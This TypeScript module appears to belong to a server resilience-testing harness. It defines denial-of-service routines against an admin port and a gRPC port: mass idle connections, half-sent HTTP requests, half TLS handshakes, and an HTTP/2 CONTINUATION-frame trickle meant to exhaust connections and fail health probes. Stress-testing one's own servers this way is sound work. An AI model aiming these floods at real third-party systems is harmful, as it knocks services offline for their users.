import type { Socket } from "node:net";
import type { AttackSession, Attacks } from "./attack.ts";

/** The client's connection preface (RFC 9113, 3.4), with empty SETTINGS. */
export const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);
/** The beginning of a TLS handshake: a record that announces 512 bytes of ClientHello, and two of them. */
const halfHandshake = Buffer.from([22, 3, 1, 2, 0, 1, 0]);

/** A frame of HTTP/2 (RFC 9113, 4.1). */
export function frame(type: number, payload: Uint8Array, stream = 1, flags = 0): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.byteLength, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** `:method: POST` and `:scheme: http` by their places in HPACK's table; no END_HEADERS. */
const beginningOfHeaders = frame(1, Buffer.from([0x83, 0x86]));

async function dialMany(
  session: AttackSession,
  port: number,
  count: number,
  begin: (socket: Socket) => void,
): Promise<Socket[]> {
  const sockets: Socket[] = [];
  const dialled: Promise<void>[] = [];
  await session.times(count, 50, () => {
    const socket = session.dial(port);
    dialled.push(
      new Promise((resolve) => {
        socket.once("close", resolve).once("connect", () => {
          begin(socket);
          resolve();
        });
      }),
    );
    sockets.push(socket);
  });
  await session.untilAll(dialled);
  return sockets;
}

/** Connections that have not come as far as a call. Each costs the client a socket and some bytes. */
export const bareSockets: Attacks = {
  /** A server that accepts this many connections and no more fails its probes, and is killed as if it were dead. */
  "idle connections to the admin port": {
    ...{ weight: 4, mayHold: 64 },
    run: async (session) => {
      await dialMany(session, session.target.adminPort, 200, () => {});
    },
  },
  "half requests to the admin port": {
    ...{ weight: 2, mayHold: 64 },
    run: async (session) => {
      await dialMany(session, session.target.adminPort, 200, (socket) => {
        socket.write("GET /livez HTTP/1.1\r\nhost: a\r\nx-a: ");
      });
    },
  },
  "idle connections to the gRPC port": {
    ...{ weight: 3, mayHold: 64 },
    run: async (session) => {
      await dialMany(session, session.target.grpcPort, 300, () => {});
    },
  },
  /** Where TLS is off, this is no beginning of anything. */
  "half TLS handshakes": {
    ...{ weight: 2, mayHold: 64 },
    run: async (session) => {
      await dialMany(session, session.target.grpcPort, 200, (socket) => {
        socket.write(halfHandshake);
      });
    },
  },
  /** Headers that trickle in and never end. */
  "slow headers": {
    ...{ weight: 3, mayHold: 64 },
    run: async (session) => {
      const sockets = await dialMany(session, session.target.grpcPort, 100, (socket) => {
        socket.write(Buffer.concat([preface, beginningOfHeaders]));
      });
      // CONTINUATION frames, each with a piece of a header of its own: `x: ...` as a literal.
      const piece = frame(9, Buffer.from([0x00, 1, 0x78, 32, ...Buffer.alloc(32, 0x61)]));
      for (let i = 0; i < 20; i++) {
        for (const socket of sockets) if (socket.writable) socket.write(piece);
        await session.pause(20);
      }
    },
  },
};
